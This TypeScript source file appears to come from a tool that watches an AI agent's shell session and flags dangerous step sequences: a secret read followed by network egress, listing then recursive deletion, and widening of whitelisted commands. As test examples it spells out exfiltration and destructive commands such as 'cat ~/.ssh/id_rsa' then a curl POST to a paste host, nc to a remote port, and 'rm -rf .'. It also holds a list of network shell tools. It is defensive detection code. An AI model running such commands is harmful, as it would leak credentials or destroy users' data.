/**
 * Multi-step signals: safe-looking steps of one agent session that compose into a dangerous
 * sequence. Rules are data with examples (checked by test/context-sequence.test.ts against the
 * real shell parser); each raises the new command's tier with a reason naming the earlier step.
 */
import { posix } from 'node:path';
import type { Reason } from '../../protocol/api.js';
import type { Analysis, SimpleCommand, Word } from '../analyzer/types.js';
import { classifyPath } from '../analyzer/risk/paths.js';
import { maxTier, type Tier } from '../../protocol/tiers.js';
import { parseArgs } from './argv.js';

export interface SessionStep {
  analysis: Analysis;
  /** Reason codes the step was judged with (risk rules: secrets.*, exfil.*, …). */
  reasonCodes: readonly string[];
  /** How it was allowed; null when it was not (denied, expired, still pending). */
  allowedBy: 'whitelist' | 'reviewer' | null;
  cwd: string;
  /** Display text, for the reason. */
  text: string;
}

export interface SequenceExample {
  /** Earlier steps ran (approved by a reviewer) unless `whitelisted` or `denied` says otherwise. */
  earlier: Array<{ shell: string; whitelisted?: boolean; denied?: boolean }>;
  now: string;
}

export interface SequenceRule {
  id: string;
  tier: Tier;
  description: string;
  /** The reason message when the rule fires for `now` after `earlier` (oldest first); else null. */
  test(earlier: readonly SessionStep[], now: SessionStep): string | null;
  examples: { match: SequenceExample[]; notMatch: SequenceExample[] };
}

const READERS = new Set([
  'cat',
  'less',
  'more',
  'head',
  'tail',
  'base64',
  'xxd',
  'od',
  'strings',
  'cp',
  'tar',
  'zip',
  'gpg',
  'openssl',
  'grep',
  'awk',
  'sed',
  'jq',
  'bat',
  'nl',
  'source',
  '.',
]);
const EGRESS = new Set([
  'curl',
  'wget',
  'nc',
  'ncat',
  'netcat',
  'socat',
  'scp',
  'sftp',
  'ftp',
  'rsync',
  'ssh',
  'telnet',
  'http',
  'https',
  'xh',
  'aria2c',
]);
const LISTERS = new Set(['ls', 'find', 'du', 'tree', 'stat', 'exa', 'eza', 'file']);
const short = (text: string) => (text.length > 80 ? `${text.slice(0, 79)}…` : text);

/** Only steps that were allowed to run can have read or listed anything. */
const ran = (step: SessionStep) => step.allowedBy !== null;

function readsSecret(step: SessionStep): boolean {
  if (!ran(step)) return false;
  if (step.reasonCodes.some((c) => c.startsWith('secrets.') && c !== 'secrets.list-names')) return true;
  return step.analysis.commands.some(
    (c) =>
      (c.program !== null &&
        READERS.has(c.program) &&
        c.argv.slice(1).some((w) => classifyPath(w).has('secret'))) ||
      c.redirects.some((r) => r.op === '<' && classifyPath(r.target).has('secret')),
  );
}

function egress(step: SessionStep): boolean {
  if (
    step.reasonCodes.some((c) => c.startsWith('exfil.') || c === 'network.send-data' || c === 'network.fetch')
  )
    return true;
  return step.analysis.commands.some((c) => c.program !== null && EGRESS.has(c.program));
}

function pathsOf(cmd: SimpleCommand, cwd: string): string[] {
  return parseArgs(cmd.argv)
    .operands.filter((w: Word) => w.dynamic.every((d) => d === 'tilde'))
    .map((w) => (w.value.startsWith('~') ? posix.normalize(w.value) : posix.resolve(cwd, w.value)));
}

function recursiveDeletes(step: SessionStep): string[] {
  return step.analysis.commands
    .filter(
      (c) => c.program === 'rm' && ['-r', '-R', '--recursive'].some((f) => parseArgs(c.argv).flags.has(f)),
    )
    .flatMap((c) => pathsOf(c, step.cwd));
}

const within = (parent: string, child: string) =>
  child === parent || child.startsWith(parent.endsWith('/') ? parent : `${parent}/`);

export const SEQUENCE_RULES: readonly SequenceRule[] = [
  {
    id: 'sequence.secret-then-egress',
    tier: 'critical',
    description:
      'A secret was read earlier in the session and this command sends data over the network: possible exfiltration.',
    test(earlier, now) {
      if (!egress(now)) return null;
      const secret = earlier.find(readsSecret);
      return secret
        ? `possible exfiltration: network egress after reading a secret earlier in this session (\`${short(secret.text)}\`)`
        : null;
    },
    examples: {
      match: [
        { earlier: [{ shell: 'cat ~/.ssh/id_rsa' }], now: 'curl -X POST https://paste.example.com -d @-' },
        { earlier: [{ shell: 'cat .env' }, { shell: 'ls' }], now: 'nc 10.0.0.5 4444 < notes.txt' },
      ],
      notMatch: [
        { earlier: [{ shell: 'cat README.md' }], now: 'curl https://example.com' },
        { earlier: [{ shell: 'cat ~/.ssh/id_rsa.pub' }], now: 'curl https://example.com' },
        { earlier: [{ shell: 'cat .env' }], now: 'ls -la' },
        { earlier: [{ shell: 'cat ~/.ssh/id_rsa', denied: true }], now: 'curl https://example.com' },
      ],
    },
  },
  {
    id: 'sequence.list-then-delete',
    tier: 'high',
    description: 'The agent listed a path and now deletes it recursively.',
    test(earlier, now) {
      const deleted = recursiveDeletes(now);
      if (!deleted.length) return null;
      for (const step of [...earlier].reverse().filter(ran)) {
        for (const c of step.analysis.commands) {
          if (c.program === null || !LISTERS.has(c.program)) continue;
          const listed = pathsOf(c, step.cwd);
          const hit = deleted.find((d) => listed.some((l) => within(d, l)));
          if (hit)
            return `deletes ${hit} recursively after listing it earlier in this session (\`${short(step.text)}\`)`;
        }
      }
      return null;
    },
    examples: {
      match: [
        { earlier: [{ shell: 'ls -la /srv/data' }], now: 'rm -rf /srv/data' },
        { earlier: [{ shell: 'du -sh ./cache/old' }], now: 'rm -r ./cache' },
      ],
      notMatch: [
        { earlier: [{ shell: 'ls /srv/data' }], now: 'rm /srv/data/one.txt' },
        { earlier: [{ shell: 'ls /srv/other' }], now: 'rm -rf /srv/data' },
      ],
    },
  },
  {
    id: 'sequence.widens-whitelisted',
    tier: 'high',
    description:
      'A whitelisted step ran earlier and this command widens it: the same program on an enclosing path, or with recursion added.',
    test(earlier, now) {
      for (const step of [...earlier].reverse()) {
        if (step.allowedBy !== 'whitelist') continue;
        for (const before of step.analysis.commands) {
          for (const after of now.analysis.commands) {
            if (before.program === null || before.program !== after.program) continue;
            const was = pathsOf(before, step.cwd);
            const is = pathsOf(after, now.cwd);
            const wider = is.find((p) => was.some((w) => w !== p && within(p, w)));
            if (wider) return `widens the whitelisted \`${short(step.text)}\` to ${wider}`;
            const rec = (c: SimpleCommand) =>
              ['-r', '-R', '--recursive'].some((f) => parseArgs(c.argv).flags.has(f));
            if (!rec(before) && rec(after) && is.some((p) => was.includes(p)))
              return `adds recursion to the whitelisted \`${short(step.text)}\``;
          }
        }
      }
      return null;
    },
    examples: {
      match: [
        { earlier: [{ shell: 'rm -rf ./dist/cache', whitelisted: true }], now: 'rm -rf ./dist' },
        { earlier: [{ shell: 'rm -rf build/tmp', whitelisted: true }], now: 'rm -rf .' },
        { earlier: [{ shell: 'chmod 644 site', whitelisted: true }], now: 'chmod -R 777 site' },
      ],
      notMatch: [
        { earlier: [{ shell: 'rm -rf ./dist/cache', whitelisted: false }], now: 'rm -rf ./dist' },
        { earlier: [{ shell: 'rm -rf ./dist', whitelisted: true }], now: 'rm -rf ./dist/cache' },
        { earlier: [{ shell: 'rm -rf ./dist', whitelisted: true }], now: 'rm -rf ./dist' },
      ],
    },
  },
];

/** Reasons from the session for `now` (earlier: oldest first), and the tier they raise to. */
export function assessSequence(
  earlier: readonly SessionStep[],
  now: SessionStep,
  rules: readonly SequenceRule[] = SEQUENCE_RULES,
): { tier: Tier; reasons: Reason[] } {
  const reasons: Reason[] = [];
  for (const rule of rules) {
    const message = rule.test(earlier, now);
    if (message) reasons.push({ code: rule.id, message, tier: rule.tier });
  }
  return { tier: reasons.reduce<Tier>((t, r) => (r.tier ? maxTier(t, r.tier) : t), 'safe'), reasons };
}

/**
 * Checks every rule against its own examples (CONVENTIONS §5): a rule that misses an example or
 * fires on a counter-example is a problem. `analyze` turns example shell text into an analysis.
 */
export function sequenceRuleProblems(
  analyze: (shell: string) => Analysis,
  rules: readonly SequenceRule[] = SEQUENCE_RULES,
): string[] {
  const step = (e: { shell: string; whitelisted?: boolean; denied?: boolean }): SessionStep => {
    const analysis = analyze(e.shell);
    const allowedBy = e.denied ? null : e.whitelisted ? 'whitelist' : 'reviewer';
    return {
      analysis,
      reasonCodes: analysis.risk.reasons.map((r) => r.code),
      allowedBy,
      cwd: '/work/project',
      text: e.shell,
    };
  };
  const problems: string[] = [];
  for (const rule of rules) {
    for (const [want, examples] of [
      [true, rule.examples.match] as const,
      [false, rule.examples.notMatch] as const,
    ]) {
      for (const ex of examples) {
        const fired = rule.test(ex.earlier.map(step), step({ shell: ex.now })) !== null;
        if (fired !== want) problems.push(`${rule.id} ${want ? 'misses' : 'fires on'} ${JSON.stringify(ex)}`);
      }
    }
  }
  return problems;
}
